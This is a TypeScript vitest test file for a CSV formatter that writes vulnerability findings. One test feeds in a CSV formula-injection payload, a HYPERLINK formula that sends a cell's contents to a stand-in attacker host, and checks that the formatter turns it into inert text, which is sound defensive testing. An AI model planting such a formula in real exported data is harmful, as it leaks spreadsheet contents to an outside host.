import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Finding } from '../detect/model.js';
import { formatFindings } from './findings-format.js';

const finding = (over: Partial<Finding> = {}): Finding => ({
  machine: 'web-01',
  bulletin: 'DSA-1',
  package: 'apt',
  status: 'missing',
  severity: 'critical',
  title: 'apt security update',
  cves: ['CVE-2024-1', 'CVE-2024-2'],
  kbs: [],
  evidence: [{ ref: 'oval:1', subject: 'dpkg package apt', expected: 'version less than 2.6.1', actual: '2.6.0', result: 'true', message: 'apt 2.6.0 is earlier than 2.6.1' }],
  warnings: [],
  ...over,
});

describe('formatFindings csv', () => {
  it('one record per finding under the header, CRLF record ends', () => {
    const out = formatFindings([finding(), finding({ machine: 'db, "main"' })], 'csv', { verbose: false });
    expect(out.startsWith('machine,bulletin,package,status,severity,title,cves,kbs,reason\r\n')).toBe(true);
    expect(parse(out)).toEqual([
      ['machine', 'bulletin', 'package', 'status', 'severity', 'title', 'cves', 'kbs', 'reason'],
      ['web-01', 'DSA-1', 'apt', 'missing', 'critical', 'apt security update', 'CVE-2024-1 CVE-2024-2', '', 'apt 2.6.0 is earlier than 2.6.1'],
      ['db, "main"', 'DSA-1', 'apt', 'missing', 'critical', 'apt security update', 'CVE-2024-1 CVE-2024-2', '', 'apt 2.6.0 is earlier than 2.6.1'],
    ]);
  });

  it('a hostile bulletin title from a feed is text, not a formula', () => {
    const title = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const [, row] = parse(formatFindings([finding({ title })], 'csv', { verbose: false }));
    expect(row![5]).toBe(`'${title}`);
  });
});
